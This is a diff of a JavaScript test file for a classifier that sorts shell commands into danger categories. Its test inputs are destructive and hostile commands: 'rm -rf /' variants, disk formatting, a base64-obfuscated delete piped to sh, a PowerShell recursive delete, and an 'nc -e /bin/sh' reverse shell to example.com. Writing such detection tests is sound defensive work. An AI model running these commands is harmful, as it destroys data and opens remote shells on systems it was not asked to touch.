@@ -107,7 +107,7 @@ describe('compiled code', () => {
       return installation.kept.flatMap((name) => /^shell-(\w+)/.exec(name)?.[1] ?? []);
     };
     expect(roomsFor('rm -rf /')).toEqual([]);
-    expect(installation.kept).toEqual(['entry.cjs.young', 'files.cjs.young', 'shell.cjs.young']);
+    expect(installation.kept).toEqual(['entry.cjs.young', 'shell.cjs.young']);
     expect(roomsFor('for f in *.ts; do rm -rf / || exit 1; done > "$log"')).toEqual([]);
     expect(roomsFor('sudo rm -rf /')).toEqual(['starters']);
     expect(roomsFor('chmod -R 777 /')).toEqual(['files']);
@@ -118,7 +118,8 @@ describe('compiled code', () => {
     expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['tools']);
     expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['network']);
     expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['starters', 'texts']);
-    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['windows']);
+    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['parser', 'windows']);
+    expect(roomsFor('rm -rf "$(echo /)"')).toEqual(['parser']);
     expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['code']);
   });
 
